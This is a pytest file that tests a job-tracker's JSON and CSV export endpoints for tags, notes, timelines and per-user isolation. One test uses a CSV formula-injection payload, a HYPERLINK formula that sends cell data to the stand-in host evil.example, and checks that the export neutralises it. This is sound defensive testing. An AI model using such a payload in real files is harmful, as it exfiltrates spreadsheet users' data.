"""GET /export.json and /export.csv through the api function on the Firestore emulator: every
application of the session's user with its tags, notes and timeline (emails and hand edits)."""

from __future__ import annotations

import csv
import io

import pytest

from tests.builders import an_email, application_email, day
from tests.functions_support import csrf_headers
from tracker.recording import record_email

pytestmark = pytest.mark.emulator


def receive(services, user_id, status, company, title, on, thread=None) -> str:
    email, extraction = an_email(on=on, thread=thread), application_email(status, company, title)
    return services.applications.in_transaction(
        user_id, lambda tx: record_email(tx, email, extraction, now=day(30))
    ).app_id


@pytest.fixture
def mailbox(services, signed_in, user_id):
    """Acme: applied then interview (two emails), tagged and noted in the app; Globex: applied."""
    acme = receive(services, user_id, "applied", "Acme", "Data Engineer", on=1, thread="acme")
    receive(services, user_id, "interview", "Acme", "Data Engineer", on=4, thread="acme")
    globex = receive(services, user_id, "applied", "Globex", "Analyst", on=2, thread="globex")
    edited = signed_in.patch(
        f"/jobs/{acme}/",
        json={"tags": ["Remote", "dream job"], "notes": "Ask about the visa\nand the team"},
        headers=csrf_headers(signed_in),
    )
    assert edited.status_code == 200, edited.get_data(as_text=True)
    return {"acme": acme, "globex": globex}


def test_the_json_export_has_every_application_with_tags_notes_and_its_timeline(signed_in, mailbox):
    response = signed_in.get("/export.json")

    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    exported = response.get_json()
    by_id = {a["id"]: a for a in exported["applications"]}
    assert set(by_id) == set(mailbox.values())
    acme = by_id[mailbox["acme"]]
    assert acme["tags"] == ["remote", "dream job"] and acme["notes"] == "Ask about the visa\nand the team"
    assert [(e["kind"], e["status"]) for e in acme["timeline"]] == [
        ("email", "applied"),
        ("email", "interview"),
        ("manual_edit", None),
    ]
    # Each application as GET /jobs/{id}/ shows it, and its timeline as /events/ lists it.
    for job_id, application in by_id.items():
        timeline = application.pop("timeline")
        assert application == signed_in.get(f"/jobs/{job_id}/").get_json()
        assert timeline == signed_in.get(f"/jobs/{job_id}/events/").get_json()["results"]
    assert exported["settings"] == signed_in.get("/users/settings/").get_json()
    assert exported["model_calls"] == signed_in.get("/users/model_calls/?page_size=100").get_json()["results"]


def test_the_csv_export_has_the_sheets_columns_tags_notes_and_a_line_per_timeline_entry(signed_in, mailbox):
    response = signed_in.get("/export.csv")

    assert response.status_code == 200 and response.mimetype == "text/csv"
    header, *rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert header[:3] == ["Company", "Job title", "Status"] and header[-2:] == ["Needs review", "Timeline"]
    by_company = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_company) == {"Acme", "Globex"}
    acme = by_company["Acme"]
    assert (acme["Status"], acme["Tags"], acme["Notes"]) == (
        "interview",
        "remote, dream job",
        "Ask about the visa\nand the team",
    )
    lines = acme["Timeline"].split("\n")
    assert len(lines) == 3 and "applied" in lines[0] and "interview" in lines[1]
    assert "Edited in the app" in lines[2] and "dream job" in lines[2]
    assert len(by_company["Globex"]["Timeline"].split("\n")) == 1


def test_a_company_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(services, signed_in, user_id):
    receive(services, user_id, "applied", '=HYPERLINK("https://evil.example?"&A1)', "Analyst", on=1)

    (row,) = list(csv.reader(io.StringIO(signed_in.get("/export.csv").get_data(as_text=True))))[1:]

    assert row[0] == '\'=HYPERLINK("https://evil.example?"&A1)'


def test_the_export_holds_only_the_session_users_applications(services, signed_in, user_id, mailbox):
    receive(services, f"{user_id}-other", "applied", "Initech", "Analyst", on=1)

    companies = {a["company"] for a in signed_in.get("/export.json").get_json()["applications"]}
    rows = list(csv.reader(io.StringIO(signed_in.get("/export.csv").get_data(as_text=True))))[1:]

    assert companies == {"Acme", "Globex"} and {row[0] for row in rows} == {"Acme", "Globex"}
